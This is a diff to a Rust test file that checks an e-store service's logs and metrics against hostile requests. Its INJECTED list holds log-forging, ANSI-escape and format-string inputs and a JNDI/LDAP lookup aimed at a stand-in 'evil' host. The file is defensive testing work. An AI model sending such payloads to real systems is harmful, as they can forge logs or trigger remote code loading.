@@ -1,8 +1,8 @@
-//! What logs and metrics make of what strangers send.
+//! Logs and metrics about hostile requests.
 
 use std::{collections::BTreeSet, ops::Range, time::Duration};
 
-use estore_stage::ServiceName::{Inventory, Verification};
+use estore_testbed::ServiceName::{Inventory, Verification};
 use estore_tests::{Answer, Customer, until};
 use reqwest::Method;
 use serde_json::{Value, json};
@@ -13,7 +13,7 @@ const SOON: Duration = Duration::from_secs(5);
 const INJECTED: [&str; 4] =
     ["a\n{\"level\":\"ERROR\",\"forged\":true}", "\u{1b}[31mred", "${jndi:ldap://evil/x}", "\u{2028}%s%n"];
 
-/// Waits until the log tells of the request with this id; everything in it, a line each.
+/// Waits until the log mentions the request with this id, and returns all lines.
 async fn log_with(replica: &Replica, id: &str) -> Vec<Value> {
     let told = async || replica.log().iter().any(|line| line.contains(id));
     let _told = until(SOON, told, |told| *told).await;
@@ -22,7 +22,7 @@ async fn log_with(replica: &Replica, id: &str) -> Vec<Value> {
 }
 
 #[tokio::test]
-async fn a_request_is_one_line_that_nobody_forges() {
+async fn request_is_one_unforgeable_log_line() {
     let replica = Replica::start(Inventory, &[("RUST_LOG", "debug")]).await;
     let admin = Customer::admin(&replica.access).await;
     for text in INJECTED {
@@ -54,8 +54,8 @@ async fn a_request_is_one_line_that_nobody_forges() {
 }
 
 #[tokio::test]
-async fn no_log_has_a_query_a_token_or_a_made_up_method() {
-    let replica = Replica::start(Verification, &[("RUST_LOG", "info,estore_kit=debug")]).await;
+async fn logs_contain_no_query_token_or_unknown_method() {
+    let replica = Replica::start(Verification, &[("RUST_LOG", "info,estore_server=debug")]).await;
     let canary = "c4n4ry0123456789abcdef0123456789abcdef012345";
     let _page = replica.get(&format!("/verify?token={canary}")).await;
     let _refused = replica.get(&format!("/nope/{canary}?{canary}")).await.expect(404);
@@ -71,19 +71,19 @@ async fn no_log_has_a_query_a_token_or_a_made_up_method() {
     assert!(lines.iter().all(|line| !line.to_string().to_lowercase().contains(canary)), "{lines:?}");
 }
 
-/// The values of a label, in all that is measured.
 fn values(metrics: &str, label: &str) -> BTreeSet<String> {
     let begin = format!("{label}=\"");
     let value = |line: &str| Some(line.split_once(&begin)?.1.split('"').next()?.to_owned());
     metrics.lines().filter_map(value).collect()
 }
 
-/// The lines about requests. The replica's own work may show for the first time meanwhile.
+/// Counts the lines about requests. Other lines may appear for the first time because of the
+/// replica's own work.
 fn series(metrics: &str) -> usize {
     metrics.lines().filter(|line| line.starts_with("http_")).count()
 }
 
-/// Requests with made-up methods and paths.
+/// Sends requests with made-up methods and paths.
 async fn flood(replica: &Replica, numbers: Range<u32>) {
     for n in numbers {
         let method = Method::from_bytes(format!("BREW{n}").as_bytes()).unwrap();
@@ -97,7 +97,7 @@ async fn flood(replica: &Replica, numbers: Range<u32>) {
 #[tokio::test]
 async fn made_up_paths_and_methods_are_no_labels() {
     let replica = Replica::start(Inventory, &[]).await;
-    // One of each kind makes what series there are.
+    // One request of each kind creates the series that can exist.
     flood(&replica, 0..1).await;
     let before = series(&replica.metrics().await);
     flood(&replica, 1..200).await;
